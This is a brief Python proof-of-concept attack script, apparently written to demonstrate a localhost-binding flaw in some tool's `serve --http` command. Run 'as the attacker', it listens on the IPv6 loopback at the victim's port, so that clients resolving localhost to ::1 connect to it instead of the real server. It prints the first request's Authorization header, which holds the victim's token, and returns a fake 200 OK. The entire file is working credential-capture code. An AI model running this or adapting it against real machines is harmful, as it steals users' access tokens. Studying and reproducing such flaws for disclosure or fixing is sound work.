"""Run as the attacker: listen on [::1]:PORT, the IPv6 loopback, while the victim's
`serve --http localhost:PORT` listens on 127.0.0.1:PORT only; print the head of the first
request (its Authorization header holds the victim's token), answer 200 and stop.

    python3 http_localhost_ipv6_mallory.py PORT
"""

import socket
import sys

listener = socket.socket(socket.AF_INET6)
listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
listener.bind(("::1", int(sys.argv[1])))
listener.listen()
print("listening on [::1]:" + sys.argv[1], flush=True)
connection, peer = listener.accept()
head = connection.recv(65536).decode("latin-1")
print("got from", peer, ":", *[line for line in head.split("\r\n") if line], sep="\n  ", flush=True)
connection.sendall(b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 16\r\n\r\n{"status": "ok"}')
connection.close()
